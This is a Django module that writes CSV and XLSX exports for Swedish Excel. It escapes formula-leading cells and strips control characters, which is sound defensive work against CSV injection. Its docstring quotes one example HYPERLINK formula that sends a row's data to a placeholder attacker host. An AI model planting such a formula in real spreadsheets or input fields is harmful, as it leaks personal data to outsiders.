"""Safe spreadsheet exports (CSV and XLSX) for every app: the one place that writes a cell.

Names, descriptions and messages come from the public. A value that starts with ``= + - @``, a
tab or a carriage return would run as a formula when a coordinator opens the file
(``=HYPERLINK("http://evil.example/?"&A1,"Klicka")`` sends the row to someone else), and a control
character makes openpyxl refuse the whole workbook. ``safe_cell`` neutralises the first with a
leading apostrophe (OWASP "CSV injection") and drops the second, so an export never runs a formula
and never fails.

How a new app uses it:

* import-export: subclass ``SafeResource`` instead of ``resources.ModelResource`` and list
  ``ADMIN_FORMATS`` in the admin (``formats`` / ``export_formats``). Every exported field goes
  through ``safe_cell``; an imported sheet has the apostrophe taken off again, so an export
  imports back unchanged.
* a CSV or XLSX built by hand (a view, an admin action): ``csv_response(rows, header, filename)``
  or ``xlsx_response(rows, header, filename)``; ``csv_content`` / ``xlsx_content`` give the bytes
  (to cache them) and ``attachment_response`` serves bytes as a download.

CSV for the admin is what Swedish Excel opens correctly by double-click: UTF-8 with a byte order
mark and ``;`` between fields (Swedish Excel reads ``,`` as the decimal separator). An open data
CSV with a documented format can ask for ``delimiter=","``.

A failed export never logs a cell: the values are personal data.
"""

import csv
import io
import json
import re
from collections.abc import Iterable, Sequence

from django.http import HttpResponse
from import_export import resources
from import_export.formats import base_formats

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
# What an XLSX cell cannot hold (openpyxl's ILLEGAL_CHARACTERS_RE): C0 controls but tab, LF and CR.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

SWEDISH_EXCEL_DELIMITER = ";"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value):
    """``value`` as a spreadsheet may hold it: no formula, no control character. Non-text is kept."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS.sub("", value)
    if value.startswith(FORMULA_PREFIXES):
        return ESCAPE + value
    return value


def unescape_cell(value):
    """The value ``safe_cell`` was given, for an imported sheet: the apostrophe it added comes off."""
    if isinstance(value, str) and value.startswith(ESCAPE) and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def _safe_rows(rows: Iterable[Sequence]) -> Iterable[list]:
    for row in rows:
        yield [safe_cell(value) for value in row]


def csv_content(
    rows: Iterable[Sequence], header: Sequence | None = None, *, delimiter: str = SWEDISH_EXCEL_DELIMITER
) -> bytes:
    """The whole CSV as UTF-8 with a byte order mark, every cell through ``safe_cell``."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, delimiter=delimiter)
    if header is not None:
        writer.writerow([safe_cell(str(name)) for name in header])
    writer.writerows(_safe_rows(rows))
    return buffer.getvalue().encode("utf-8")


def xlsx_content(rows: Iterable[Sequence], header: Sequence | None = None, *, title: str = "") -> bytes:
    """The whole workbook (one sheet), every cell through ``safe_cell``."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=ILLEGAL_CHARACTERS.sub("", title)[:31] or None)
    if header is not None:
        sheet.append([safe_cell(str(name)) for name in header])
    for row in _safe_rows(rows):
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def attachment_response(content: bytes, *, filename: str, content_type: str) -> HttpResponse:
    """Bytes as a download named ``filename`` (ASCII, no quotes: it is ours, not the public's)."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    response["Content-Security-Policy"] = "sandbox"  # a download, like every file we send (core.files)
    return response


def csv_response(
    rows: Iterable[Sequence], header: Sequence | None, filename: str, *, delimiter: str = SWEDISH_EXCEL_DELIMITER
) -> HttpResponse:
    """A CSV download for Swedish Excel (BOM, ``;``), every cell safe."""
    return attachment_response(
        csv_content(rows, header, delimiter=delimiter), filename=filename, content_type=CSV_CONTENT_TYPE
    )


def xlsx_response(rows: Iterable[Sequence], header: Sequence | None, filename: str, *, title: str = "") -> HttpResponse:
    """An XLSX download, every cell safe."""
    return attachment_response(
        xlsx_content(rows, header, title=title), filename=filename, content_type=XLSX_CONTENT_TYPE
    )


class SafeResource(resources.ModelResource):
    """Base of every import-export resource: exported cells go through ``safe_cell``, and the
    apostrophe it adds comes off again on import, so an export imports back unchanged."""

    def export_field(self, field, instance, **kwargs):
        return safe_cell(super().export_field(field, instance, **kwargs))

    def import_row(self, row, instance_loader, **kwargs):
        for key, value in list(row.items()):
            row[key] = unescape_cell(value)
        return super().import_row(row, instance_loader, **kwargs)


def _safe_dataset(dataset):
    """A copy of a tablib dataset with every cell through ``safe_cell`` (idempotent: a resource's
    cells are safe already; this catches a resource that does not derive from ``SafeResource``)."""
    cleaned = dataset.__class__(headers=dataset.headers, title=dataset.title)
    for row in dataset:
        cleaned.append([safe_cell(value) for value in row])
    return cleaned


class SwedishExcelCSV(base_formats.CSV):
    """import-export's CSV as Swedish Excel writes and reads it: BOM and ``;``.

    Import takes either separator (a file saved by Swedish Excel has ``;``, one from elsewhere ``,``).
    """

    def export_data(self, dataset, **kwargs):
        kwargs.setdefault("delimiter", SWEDISH_EXCEL_DELIMITER)
        return "\ufeff" + _safe_dataset(dataset).export("csv", **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        if isinstance(in_stream, bytes) and self.encoding:
            in_stream = in_stream.decode(self.encoding)
        in_stream = in_stream.removeprefix("\ufeff")
        first_line = in_stream.split("\n", 1)[0]
        kwargs.setdefault("delimiter", ";" if first_line.count(";") > first_line.count(",") else ",")
        return base_formats.TablibFormat.create_dataset(self, in_stream, **kwargs)


class SafeXLSX(base_formats.XLSX):
    """import-export's XLSX with every cell safe: a control character is dropped instead of the
    export failing (and import-export logging the cell)."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(_safe_dataset(dataset), **kwargs)


# The formats every admin offers for export and import (``formats`` / ``export_formats``).
ADMIN_FORMATS = [SwedishExcelCSV, SafeXLSX]


JSON_CONTENT_TYPE = "application/json"


def json_content(data) -> bytes:
    """An open data JSON document (an API serializer's output) as the downloads give it: UTF-8,
    indented one space, dates and times as ISO 8601."""
    from django.core.serializers.json import DjangoJSONEncoder

    return json.dumps(data, cls=DjangoJSONEncoder, ensure_ascii=False, indent=1).encode("utf-8")


def json_download(content: bytes, *, filename: str) -> HttpResponse:
    """JSON bytes shown in the browser (``inline``) and saved as ``filename``; sandboxed like every file."""
    response = HttpResponse(content, content_type=JSON_CONTENT_TYPE)
    response["Content-Disposition"] = f'inline; filename="{filename}"'
    response["Content-Security-Policy"] = "sandbox"
    return response
